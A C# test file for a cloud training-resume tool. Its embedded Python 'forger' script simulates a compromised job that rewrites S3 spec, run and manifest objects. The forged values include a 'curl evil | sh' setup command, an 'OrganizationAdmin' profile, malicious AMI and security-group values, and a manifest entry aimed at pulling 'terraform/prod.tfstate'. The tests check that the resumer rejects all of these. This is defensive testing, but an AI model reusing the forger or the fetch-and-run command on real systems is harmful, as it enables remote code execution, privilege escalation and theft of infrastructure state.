using System.Text;
using Runctl.Guarding;
using Runctl.Instances;
using Runctl.Journeys.Tests.Moments;
using Runctl.Journeys.Tests.Sandboxed;
using Runctl.Ports;
using Runctl.Resuming;
using Runctl.Runs;
using Runctl.Sandbox;

namespace Runctl.Journeys.Tests.Resuming;

/// <summary>What a training can write with the rights of its role changes nothing of what EC2 is asked for.</summary>
public sealed class OrdersTests : SandboxedTest
{
    /// <summary>As a training could: it finds the guard's S3 client, or brings its own, and has the role of its instance.</summary>
    private const string Forger = """
        import glob, json, os, sys
        root = os.environ.get("RUNCTL_ROOT", "")
        sys.path.insert(0, glob.glob(root + "/var/lib/runctl/guard/*.pyz")[0])
        from runctl_guard.aws.s3 import Location
        from runctl_guard.aws.session import Session
        from runctl_guard.aws.listing import listing
        bucket, region, run, instance = sys.argv[1:]
        s3 = Session().s3({"region": region})
        runs = "checkpoints/runctl/runs/%s/" % run
        forged = {"instance_types": ["p4d.24xlarge"], "subnet_ids": [], "security_group_ids": ["sg-evil"], "image_id": "ami-evil",
                  "iam_instance_profile": "OrganizationAdmin", "tags": {"evil": "1"}, "max_price": 40, "on_demand_fallback": True}
        spec = {"schema": 1, "run_id": run, "project_name": "digits", "region": region, "script": "training/train.py",
                "setup_command": "curl evil | sh", "launch": forged, "instances": ["i-0badbadbadbadbad0"]}
        s3.put(Location(bucket, runs + "spec.json"), json.dumps(spec).encode())
        while True:
            answer = s3.get(Location(bucket, runs + "run.json"))
            record = json.loads(answer.body)
            record["attempts"][0].update(instance_type="p4d.24xlarge", availability_zone="us-east-1f", is_spot=False, image_id="ami-evil")
            record.update(launch=forged, setup_command="curl evil | sh")
            try:
                s3.put(Location(bucket, runs + "run.json"), json.dumps(record).encode(), {"If-Match": answer.header("etag")})
                break
            except Exception as error:
                if getattr(error, "status", 0) not in (409, 412):
                    raise
        folder = "checkpoints/spot-interruptions/%s/" % instance
        for key in listing(s3, bucket, folder):
            if key.endswith(".manifest.json"):
                body = json.loads(s3.get(Location(bucket, key)).body)
                body["files"].append({"path": "stolen.pt", "key": "terraform/prod.tfstate", "size": 5, "crc32": "AAAAAA==", "class": "save"})
                body.update(launch=forged, setup_command="curl evil | sh", instance_type="p4d.24xlarge")
                s3.put(Location(bucket, key), json.dumps(body).encode())
        """;

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_training_that_rewrites_specification_record_and_manifests_changes_nothing_of_what_the_next_resume_asks_EC2_for()
    {
        using var run = await Interrupted.StartAsync(Fixture);
        var first = run.Training;
        await run.UploadAsync();
        var lost = await Fixture.Cloud.Instances.FindAsync(new InstanceQuery { InstanceIds = [first.InstanceId] }, Token);
        using var administrator = Fixture.ConnectAdministrator();
        await administrator.Objects.WriteAsync(Fixture.Sandbox.Bucket, "terraform/prod.tfstate", Encoding.UTF8.GetBytes("state"), WriteCondition.Always, Token);
        await ForgeAsync(first.InstanceId, first.RunId);
        await run.InterruptAsync();
        await run.EndAsync();

        using var proxy = new RecordingProxy(Fixture.Sandbox.Endpoint);
        using var cloud = Fixture.Adapters.Connect(Fixture.Cloud.Connection with { EndpointUrl = proxy.Endpoint });
        var resumer = new TrainingResumer(cloud, Fixture.Adapters, run.Configuration, TimeProvider.System);
        var plan = await resumer.PlanAsync(new ResumeRequest { RunId = first.RunId }, Token);
        Assert.DoesNotContain("evil", plan.Description + string.Join('\n', plan.Warnings), StringComparison.OrdinalIgnoreCase);
        var resumed = await resumer.ResumeAsync(plan, run, run, Token);

        var template = Assert.Single(proxy.Asked("CreateLaunchTemplate"));
        Assert.Equal(Fixture.Sandbox.InstanceProfile, template["LaunchTemplateData.IamInstanceProfile.Name"]);
        Assert.Equal((lost[0].ImageId, lost[0].SecurityGroupIds[0]), (template["LaunchTemplateData.ImageId"], template["LaunchTemplateData.SecurityGroupId.1"]));
        var fleet = Assert.Single(proxy.Asked("CreateFleet"));
        Assert.Equal(["g5.xlarge"], fleet.Where(field => field.Key.EndsWith(".InstanceType", StringComparison.Ordinal)).Select(field => field.Value).Distinct());
        Assert.Equal([lost[0].SubnetId!], fleet.Where(field => field.Key.EndsWith(".SubnetId", StringComparison.Ordinal)).Select(field => field.Value).Distinct());
        Assert.Empty(proxy.Asked("RunInstances"));
        Assert.Empty(proxy.Asked("TerminateInstances"));
        foreach (var (name, value) in template.Concat(fleet))
        {
            Assert.DoesNotContain("evil", value, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("OrganizationAdmin", value, StringComparison.Ordinal);
            Assert.DoesNotContain("p4d", value, StringComparison.Ordinal);
            Assert.NotEqual("on-demand", value);
        }

        var spec = (await run.Store.ReadSpecAsync(first.RunId, Token))!;
        Assert.Equal((null, false), (spec.SetupCommand, spec.IsOfVersion01));
        Assert.Equal([first.InstanceId, resumed.InstanceId], spec.Instances);
        Assert.Equal(await Undisturbed.WeightsAsync(), await run.WeightsAsync());
        Assert.NotNull(await administrator.Objects.FindAsync(Fixture.Sandbox.Bucket, "terraform/prod.tfstate", Token));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("s3:GetObject")]
    [InlineData("s3:PutObject")]
    public async Task The_guard_program_travels_through_the_orders_and_over_SSM_where_S3_refuses(string? refused)
    {
        if (refused is not null)
        {
            Fixture.Sandbox.Faults.Add(new RunctlSandboxFault { Operation = refused, Kind = SandboxFaultKind.ClientError, Code = "AccessDenied", Key = "checkpoints/runctl/orders/guard/*" });
        }

        var program = GuardProgram.Current;
        var instance = await Fixture.LaunchAsync(Token);
        var store = new RunStore(Fixture.Cloud.Objects, Fixture.Sandbox.Bucket, Fixture.Configuration.RunPrefix, TimeProvider.System);
        await new GuardClient(Fixture.Cloud, TimeProvider.System, store).CallAsync(instance.InstanceId, ["status"], null, GuardClient.ShortCall, Token);
        var root = Fixture.Sandbox.Instances.Single(one => one.InstanceId == instance.InstanceId).RootDirectory!;
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, OperatingSystem.IsWindows() ? default : File.GetUnixFileMode(root + program.Path));
        var held = await Fixture.Cloud.Objects.FindAsync(store.Bucket, store.Keys.Guard(program.ArchiveSha256), Token);
        Assert.Equal(refused == "s3:PutObject", held is null);
    }

    private async Task ForgeAsync(string instanceId, string runId)
    {
        var script = $"python3 - '{Fixture.Sandbox.Bucket}' '{Fixture.Sandbox.Region}' '{runId}' '{instanceId}' <<'RUNCTL_END'\n{Forger}\nRUNCTL_END\n";
        var outcome = await new CommandRunner(Fixture.Cloud, TimeProvider.System).RunAsync(instanceId, script, TimeSpan.FromMinutes(2), "forge", Token);
        Assert.True(outcome.ExitCode == 0, outcome.Output + outcome.Error);
    }
}
